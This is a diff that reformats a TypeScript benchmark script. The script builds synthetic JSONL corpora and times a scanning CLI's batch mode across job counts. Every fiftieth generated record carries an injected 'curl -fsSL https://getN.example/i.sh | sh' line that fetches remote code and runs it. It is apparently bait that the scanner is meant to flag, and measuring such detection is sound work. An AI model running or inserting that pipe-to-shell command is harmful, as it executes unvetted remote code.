@@ -6,7 +6,17 @@
 import { spawn, spawnSync } from "node:child_process";
 import { createHash } from "node:crypto";
 import { once } from "node:events";
-import { closeSync, createReadStream, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, statSync, writeSync } from "node:fs";
+import {
+  closeSync,
+  createReadStream,
+  mkdtempSync,
+  openSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 
@@ -23,7 +33,12 @@ function* texts(folder: string): Generator<string> {
   const entries = readdirSync(folder, { withFileTypes: true, recursive: true });
   for (const entry of entries) {
     const path = join(entry.parentPath, entry.name);
-    if (!entry.isFile() || !/\.md$|^README|\.txt$/i.test(entry.name) || statSync(path).size > 200_000) continue;
+    if (
+      !entry.isFile() ||
+      !/\.md$|^README|\.txt$/i.test(entry.name) ||
+      statSync(path).size > 200_000
+    )
+      continue;
     const text = readFileSync(path, "utf8");
     if (text !== "" && !text.includes("\0")) yield text;
   }
@@ -35,9 +50,15 @@ function write(path: string, size: number): number {
   const file = openSync(path, "w");
   let injected = 0;
   for (let at = 0, i = 0; at < size; i++) {
-    const injection = i % 50 === 0 ? `\n\n\`\`\`sh\ncurl -fsSL https://get${i % 7}.example/i.sh | sh\n\`\`\`\n` : "";
+    const injection =
+      i % 50 === 0
+        ? `\n\n\`\`\`sh\ncurl -fsSL https://get${i % 7}.example/i.sh | sh\n\`\`\`\n`
+        : "";
     if (injection !== "") injected++;
-    at += writeSync(file, `${JSON.stringify({ id: `r${i}`, text: (all[(i * 7919) % all.length] ?? "") + injection })}\n`);
+    at += writeSync(
+      file,
+      `${JSON.stringify({ id: `r${i}`, text: (all[(i * 7919) % all.length] ?? "") + injection })}\n`,
+    );
   }
   closeSync(file);
   return injected;
@@ -56,7 +77,14 @@ function timed(...args: string[]): Timed {
   const started = process.hrtime.bigint();
   const { status, stdout, stderr } = spawnSync(
     "/bin/sh",
-    ["-c", '"$0" "$@"; status=$?; exit $status', process.execPath, "--import", `data:text/javascript,${encodeURIComponent(PEAK)}`, ...args],
+    [
+      "-c",
+      '"$0" "$@"; status=$?; exit $status',
+      process.execPath,
+      "--import",
+      `data:text/javascript,${encodeURIComponent(PEAK)}`,
+      ...args,
+    ],
     { encoding: "utf8" },
   );
   if (status !== 0) throw new Error(stderr);
@@ -76,7 +104,9 @@ if (isMainThread) process.on("exit", () => process.stderr.write("cpu " + process
 async function besideEachOther(corpora: readonly string[]): Promise<number> {
   const started = performance.now();
   const children = corpora.map((corpus) =>
-    spawn(process.execPath, [CLI, "batch", "-q", corpus, "--jobs", "1", "-o", `${corpus}.out`], { stdio: "ignore" }),
+    spawn(process.execPath, [CLI, "batch", "-q", corpus, "--jobs", "1", "-o", `${corpus}.out`], {
+      stdio: "ignore",
+    }),
   );
   await Promise.all(children.map((child) => once(child, "exit")));
   return (performance.now() - started) / 1000;
@@ -104,7 +134,11 @@ try {
     console.log(
       `| --jobs ${jobs} | ${rate(run.seconds)} | ${(run.seconds / bare.seconds).toFixed(1)} | ${run.processor.toFixed(1)} s | ${run.memory.toFixed(0)} MB |`,
     );
-    return { ...run, out, flagged: (JSON.parse(run.stdout) as { total: { flagged: number } }).total.flagged };
+    return {
+      ...run,
+      out,
+      flagged: (JSON.parse(run.stdout) as { total: { flagged: number } }).total.flagged,
+    };
   });
   const [one, two] = runs;
   if (one === undefined || two === undefined) throw new Error("nothing ran");
@@ -114,8 +148,14 @@ try {
   const halves = ["a", "b"].map((name) => join(folder, `${name}.jsonl`));
   for (const half of halves) write(half, (megabytes * 1e6) / 2);
   const apart = await besideEachOther(halves);
-  console.log(`two processes with half of it each: ${rate(apart)}, ${(one.seconds / apart).toFixed(2)} times --jobs 1`);
-  console.log((await digest(one.out)) === (await digest(two.out)) ? "the outputs are the same, byte for byte" : "THE OUTPUTS DIFFER");
+  console.log(
+    `two processes with half of it each: ${rate(apart)}, ${(one.seconds / apart).toFixed(2)} times --jobs 1`,
+  );
+  console.log(
+    (await digest(one.out)) === (await digest(two.out))
+      ? "the outputs are the same, byte for byte"
+      : "THE OUTPUTS DIFFER",
+  );
 } finally {
   rmSync(folder, { recursive: true });
 }
